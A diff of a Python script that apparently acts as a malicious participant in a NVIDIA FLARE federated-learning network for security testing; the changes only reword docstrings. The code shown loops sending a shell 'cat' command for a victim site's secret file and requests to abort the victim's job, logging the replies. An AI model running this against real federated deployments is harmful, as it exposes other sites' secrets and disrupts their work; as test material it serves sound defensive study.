@@ -1,7 +1,7 @@
-"""FLARE's client of a hospital that means harm: python hostile.py KIT NAME VICTIM PATH OUT, with CONSILIUM_SITE set.
+"""FLARE's client of a malicious hospital: python hostile.py KIT NAME VICTIM PATH OUT, with CONSILIUM_SITE set.
 
-It takes part like any other. Beside that it asks the victim for a file and what it is, and the process of the victim's
-job to end and to stop; what comes back it writes to OUT, a line a try.
+It takes part like any other. In addition it asks the victim for a file and its settings, and the process of the
+victim's job to abort and to stop; it writes the replies to OUT, one line per attempt.
 """
 
 from __future__ import annotations
@@ -31,7 +31,7 @@ def begin(self: Any, cell: Any) -> None:
 
 
 def harm(engine: Any, cell: Any) -> None:
-    """Every few seconds, for as long as it lives."""
+    """Send all attempts, every second."""
     shell = new_cell_message({}, Command(topic=SysCommandTopic.SHELL, body=f"cat {secret}"))
     while True:
         tell("file", cell, victim, CellChannel.CLIENT_MAIN, "admin", shell)
@@ -46,7 +46,7 @@ def harm(engine: Any, cell: Any) -> None:
 
 
 def tell(what: str, cell: Any, target: str, channel: str, topic: str, message: Message) -> None:
-    """Send, and write down what comes back."""
+    """Send a request, and write the reply to OUT."""
     try:
         reply = cell.send_request(target=target, channel=channel, topic=topic, request=message, timeout=3)
         said = {"what": what, "to": target, "said": str(getattr(reply.payload, "body", reply.payload))[:400]}
